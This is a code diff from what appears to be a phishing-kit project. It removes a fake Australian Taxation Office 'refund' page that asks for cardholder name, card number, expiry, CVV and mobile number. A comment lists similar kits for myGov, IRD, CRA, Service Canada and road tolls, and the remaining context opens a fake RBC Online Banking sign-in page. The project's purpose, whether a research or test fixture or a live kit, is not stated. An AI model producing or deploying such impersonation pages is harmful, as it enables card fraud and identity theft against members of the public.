@@ -2,34 +2,6 @@ import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { jsonRoute } from '../parts/e-bin.js';
 import { charCodes } from '../parts/yf-kit.js';
 
-// Tax-office and government-service kits: ATO, myGov, IRD, CRA, Service Canada, road tolls.
-
-const atoCard = `<!DOCTYPE html>
-<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
-<title>Australian Taxation Office | Refund payment</title>
-<style>
-body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;color:#222}
-.gh{background:#1b1b1b;color:#fff;padding:14px 5%;display:flex;align-items:center;gap:16px}.gh b{font-size:18px}
-.band{background:#003a69;height:6px}
-.w{max-width:560px;margin:30px auto;background:#fff;padding:28px;border:1px solid #ddd}
-label{display:block;font-weight:bold;font-size:14px;margin:12px 0 4px}
-input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #888;font-size:15px}
-.r{display:flex;gap:12px}.r>div{flex:1}
-button{margin-top:18px;background:#003a69;color:#fff;border:0;padding:11px 28px;font-size:15px}
-</style></head><body>
-<div class="gh"><b>Australian Government</b><span>Australian Taxation Office</span></div><div class="band"></div>
-<div class="w">
-<h2>Step 2 of 2: Refund destination</h2>
-<p>Your refund of <b>$786.40</b> will be credited to the card below within 2 business days. Enter the card linked to your nominated account.</p>
-<form method="post" action="/ato/refund/complete">
-<label>Cardholder name</label><input name="holder" required>
-<label>Card number</label><input name="pan" inputmode="numeric" required>
-<div class="r"><div><label>Expiry</label><input name="exp" placeholder="MM/YY" required></div><div><label>Security code</label><input name="cvv" maxlength="4" required></div></div>
-<label>Mobile number</label><input name="mobile" type="tel">
-<button type="submit">Receive refund</button>
-</form>
-</div></body></html>`;
-
 const craBank = `<!DOCTYPE html>
 <html lang="en-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
 <title>Sign in - RBC Online Banking</title>
